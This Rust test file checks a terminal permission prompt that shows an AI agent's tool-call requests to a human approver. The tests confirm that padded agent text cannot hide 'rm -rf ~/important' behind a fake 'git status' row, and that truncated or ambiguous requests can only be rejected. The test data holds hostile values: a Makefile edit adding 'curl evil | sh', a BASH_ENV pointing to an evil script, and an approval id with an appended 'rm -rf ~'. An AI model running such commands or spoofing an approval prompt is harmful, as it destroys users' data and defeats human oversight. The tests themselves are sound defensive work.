use narrows_policy::Decision;
use serde_json::json;

use super::super::tests::question as plain_question;
use super::*;

const SIZE: Size = Size { rows: 24, columns: 80 };

fn render_all(question: &PermissionRequest, source: ApprovalSource) -> String {
    let Rendered { question, keys, .. } = render(question, source, Color::off(), SIZE);
    question + &keys
}

/// A request of an agent for one tool call.
fn question(kind: &str, input: Value, locations: &[&str]) -> PermissionRequest {
    let locations: Vec<std::path::PathBuf> = locations.iter().map(Into::into).collect();
    let subjects = vec![Action::read(Some(kind), None, &input, &locations)];
    PermissionRequest { input, locations, subjects, ..plain_question() }
}

#[track_caller]
fn check(question: &PermissionRequest, rows: &str) {
    let expected = format!(
        "\nThe agent asks for permission: \"Clean up\"\n  why asked: no rule matches, and medium access asks about it\n{rows}  \
         [1] allow once: \"A\"\n  [2] allow always: \"B\"\n  [y] yes, this once  [n] no, or Enter\nAllow it? "
    );
    assert_eq!(render_all(question, ApprovalSource::Unproven), expected);
}

#[test]
fn a_prompt_shows_reason_subject_and_keys() {
    check(&question("delete", json!(null), &[]), "  what: delete\n");
    check(&question("delete", json!(null), &["/a", "/b c"]), "  what: delete\n  file: /a\n  file: /b c\n");
    check(
        &question("delete", json!({"force": true}), &["/a"]),
        "  input: {\"force\":true}\n  what: delete\n  file: /a\n",
    );
    let run = |input: Value| question("execute", input, &[]);
    check(
        &run(json!({"command": "rm -r x", "cwd": "/a"})),
        "  what: execute\n  command: rm -r x\n  in: /a\n",
    );
    check(&run(json!({"command": "ls # all\nrm\tx"})), "  what: execute\n  command: ls # all⟨\\n⟩rm⟨\\t⟩x\n");
    check(&run(json!({"command": "echo Done\\nrm x"})), "  what: execute\n  command: echo Done\\nrm x\n");
    check(&run(json!({"command": "rm", "args": ["-r", "a b"]})), "  what: execute\n  command: rm -r 'a b'\n");
    let env = json!([{"name": "PATH", "value": "/evil dir"}]);
    check(
        &run(json!({"command": "ls", "args": ["-l"], "env": env})),
        "  what: execute\n  variable: PATH='/evil dir'\n  command: ls -l\n",
    );
    check(&run(json!({"command": "head", "args": ["-n", 5]})), "  what: execute\n  command: head -n 5\n");
}

#[test]
fn every_judged_fact_is_a_row() {
    // A command must not hide the server, the tool and other arguments.
    let arguments = json!({"command": "ls -l", "repo": "prod"});
    let action = Action::mcp("github", "delete_repo", &arguments);
    check(
        &PermissionRequest { subjects: vec![action], ..question("execute", arguments, &[]) },
        "  input: {\"command\":\"ls -l\",\"repo\":\"prod\"}\n  MCP server: github\n  tool: delete_repo\n  \
         what: execute, other\n  command: ls -l⟨\\n⟩repo: \"prod\"\n",
    );
    // Paths of files must not hide the command.
    check(
        &question("execute", json!({"command": "ls"}), &["/w/Makefile"]),
        "  what: execute\n  file: /w/Makefile\n  command: ls\n",
    );
    // A directory that is not a string is shown as it is.
    check(
        &question("execute", json!({"command": "make", "cwd": ["/etc"], "env": [["A"]]}), &[]),
        "  input: {\"command\":\"make\",\"cwd\":[\"/etc\"],\"env\":[[\"A\"]]}\n  what: execute, other\n  \
         variable: unreadable: [\"A\"]\n  command: make⟨\\n⟩env: \"A\"\n",
    );
    // The facts include the variables of a tool call with a command.
    let steered = Action {
        env: vec![Variable::new("BASH_ENV", "/w/evil.sh")],
        real_cwd: Some("/real".into()),
        ..Action::execute(Command::Shell("bash -c ls".to_owned()), Some("/w".into()))
    };
    check(
        &PermissionRequest {
            subjects: vec![steered],
            ..question("execute", json!({"command": "bash -c ls"}), &[])
        },
        "  what: execute\n  variable: BASH_ENV=/w/evil.sh\n  command: bash -c ls\n  in: /w\n  which is: /real\n",
    );
    let both = vec![Action::file(Kind::Read, "/a"), Action::execute(Command::Shell("rm x".to_owned()), None)];
    check(
        &PermissionRequest { subjects: both, ..plain_question() },
        "  what: read\n  file: /a\n  and: another target of the same request\n  what: execute\n  command: rm x\n",
    );
}

#[test]
fn file_changes_are_shown_and_truncation_is_marked() {
    let change = |old: Option<&str>, new: &str| FileChange {
        path: Some("/w/Makefile".into()),
        old_text: old.map(str::to_owned),
        new_text: new.to_owned(),
    };
    let rendered = |changes: Vec<FileChange>| {
        render_all(
            &PermissionRequest { changes, ..question("edit", json!(null), &["/w/Makefile"]) },
            ApprovalSource::Unproven,
        )
    };
    let text = rendered(vec![change(Some("a\nb"), "a\n\tcurl evil | sh")]);
    assert!(
        text.contains("  new text of: /w/Makefile\n  │ - b\n  │ + ⟨\\t⟩curl evil | sh\n  why asked"),
        "{text}"
    );
    let text = rendered(vec![change(None, &format!("{}\n{}", "x".repeat(200), "y\n".repeat(100)))]);
    assert!(text.contains("⟨… 40 more characters⟩\n  │ + y\n"), "{text}");
    assert!(text.contains("  not shown: 89 more lines\n"), "{text}");
    let text = rendered(vec![change(None, "x"); 5]);
    assert!(text.contains("  not shown: 2 more file changes\n"), "{text}");
    let patch = FileChange { path: None, old_text: None, new_text: "+x".to_owned() };
    assert!(rendered(vec![patch]).contains("  change: as described by the agent\n  │ +x\n"));
    assert!(rendered(vec![change(Some("a"), "a\n")]).contains("only line ends change"));
}

/// The terminal has 24 rows.
#[test]
fn agent_text_neither_hides_nor_imitates_the_facts() {
    let fake = |width: usize| {
        let row = |text: &str| format!("{text:\u{a0}<width$}");
        format!("{}{}{}", row("").repeat(20), row("  command: git status"), row("  in: /home/me"))
    };
    let real = "rm -rf ~/important";
    for filler in ["\u{a0}", " ", "x", "\u{3000}", "漢", "\u{2800}", "\u{200b}", "\n"] {
        for width in [40, 79, 80, 81] {
            let text = format!("{}{}", filler.repeat(1500), fake(width));
            let input = json!({"command": real, "note": &text});
            let asked = PermissionRequest {
                title: text.clone(),
                description: Some(text.clone()),
                options: vec![
                    PermissionOption {
                        option_id: "a".to_owned(),
                        name: text.clone(),
                        kind: text.clone()
                    };
                    50
                ],
                approval: Some(Approval { id: text.clone(), reason: text.clone() }),
                ..question("execute", input, &[])
            };
            let text = render_all(&asked, ApprovalSource::Unproven);
            let rows: Vec<&str> = text.lines().collect();
            let last = &rows[rows.len().saturating_sub(SIZE.rows)..];
            assert!(last.contains(&"  command: rm -rf ~/important"), "{text}");
            assert!(!rows.iter().any(|row| row.starts_with("  command: git")), "{text}");
            assert!(rows.iter().all(|row| row.chars().count() <= SIZE.columns), "{text}");
        }
    }
    let long = question("execute", json!({"command": "ls", "note": "x".repeat(3000)}), &[]);
    let text = render_all(&long, ApprovalSource::Unproven);
    assert!(text.contains("rows: scroll up to see all of it."), "{text}");
}

#[test]
fn a_truncated_request_cannot_be_allowed() {
    let long = "x".repeat(MAX_SHOWN_CHARS);
    let paths: Vec<String> = (0..100).map(|number| format!("/{number}/{}", "x".repeat(60))).collect();
    let paths: Vec<&str> = paths.iter().map(String::as_str).collect();
    for question in [
        question("execute", json!({"command": format!("ls {long}; rm y")}), &[]),
        question("execute", json!({"command": "ls", "more": long}), &[]),
        question("execute", json!({"command": format!("ls {}; rm y", "\u{a0}".repeat(1000))}), &[]),
        question("edit", json!(null), &paths),
        question("edit", json!({"text": long.repeat(100)}), &[]),
    ] {
        let Rendered { keys, is_whole, question } =
            render(&question, ApprovalSource::Unproven, Color::off(), SIZE);
        assert!(!is_whole);
        // The rendering is a little longer than the limit for its content.
        assert!(question.len() < 3 * MAX_SHOWN_CHARS, "{question}");
        assert!(keys.ends_with("[n] no, or Enter\nReject it? ") && !keys.contains("yes"), "{keys}");
    }
}

#[test]
fn ambiguous_input_is_shown_verbatim_and_cannot_be_allowed() {
    let request = r#"{"toolCall":{"kind":"execute","kind":"read"}}"#;
    for request in [request.to_owned(), "x\u{202e}".repeat(MAX_SHOWN_CHARS)] {
        let problem = RequestProblem { reason: "a key appears twice".to_owned(), request: request.clone() };
        let asked = PermissionRequest { problem: Some(problem), ..question("read", json!(null), &[]) };
        let Rendered { question, keys, is_whole } =
            render(&asked, ApprovalSource::Unproven, Color::off(), SIZE);
        assert!(!is_whole);
        assert!(question.contains("  problem: a key appears twice\n"), "{question}");
        assert!(question.contains("  why asked: the request is ambiguous"), "{question}");
        assert!(question.len() < 3 * MAX_SHOWN_CHARS, "{question}");
        assert!(keys.contains("It is ambiguous, so it can only be rejected.\n"), "{keys}");
        assert!(keys.ends_with("[n] no, or Enter\nReject it? ") && !keys.contains("allow"), "{keys}");
    }
    let problem = RequestProblem { reason: "a key appears twice".to_owned(), request: request.to_owned() };
    let asked = PermissionRequest { problem: Some(problem), ..question("read", json!(null), &[]) };
    assert!(render_all(&asked, ApprovalSource::Unproven).contains(&format!("  request: {request}\n")));
}

#[test]
fn options_are_named_by_their_kind() {
    let option = |name: &str, kind: &str| PermissionOption {
        option_id: "a".to_owned(),
        name: name.to_owned(),
        kind: kind.to_owned(),
    };
    for (name, kind, expected) in [
        ("No, reject", "allow_once", "allow once: \"No, reject\""),
        ("Yes", "reject_once", "reject once: \"Yes\""),
        ("Just this", "allow_always", "allow always: \"Just this\""),
        ("No", "reject_always", "reject always: \"No\""),
        ("Reject", "allow_session", "unknown kind (\"allow_session\"): \"Reject\""),
        ("x\"  [y] no", "allow_once", "allow once: \"x\\\"  [y] no\""),
        ("x\\\"  [y] no", "allow_once", "allow once: \"x\\\\\\\"  [y] no\""),
        ("x\\\\\"", "allow_once", "allow once: \"x\\\\\\\\\\\"\""),
        ("a\nb\\nc", "allow_once", "allow once: \"a⟨\\n⟩b\\\\nc\""),
    ] {
        assert_eq!(option_meaning(&option(name, kind)), expected);
    }
}

#[test]
fn an_approval_is_attributed_to_the_gate_only_if_it_is_our_own() {
    let reason = "require-approval: policy `removing` matches".to_owned();
    let approval = Approval { id: "n-1".to_owned(), reason: reason.clone() };
    let asked = PermissionRequest { approval: Some(approval), ..question("delete", json!(null), &["/a"]) };
    let own = render_all(&asked, ApprovalSource::OwnGate).replace("\n  │ ", "");
    let row = "  approval: n-1; holders of a governance key can approve it elsewhere: `narrows approve n-1 --key FILE`\n";
    assert!(own.contains(row), "{own}");
    assert!(own.contains("  why asked: governance: require-approval: policy `removing` matches\n"), "{own}");
    let text = render_all(&asked, ApprovalSource::Unproven).replace("\n  │ ", "");
    assert!(text.contains("  why asked: no rule matches, and medium access asks about it\n"), "{text}");
    let claim = "  it says: needs an approval, \"n-1: require-approval: policy `removing` matches\"; holders";
    assert!(text.contains(claim), "{text}");
    // Only the id of an approval is offered for copying into a shell.
    let approval = Approval { id: "n-1; rm -rf ~".to_owned(), reason: reason.clone() };
    let decision = Decision { because: DecisionReason::Approval { reason }, ..asked.decision.clone() };
    let text = render_all(
        &PermissionRequest { approval: Some(approval), decision, ..asked },
        ApprovalSource::Unproven,
    );
    assert!(!text.contains("narrows approve"), "{text}");
    assert!(text.contains("  why asked: the agent claims that it needs an approval\n"), "{text}");
}
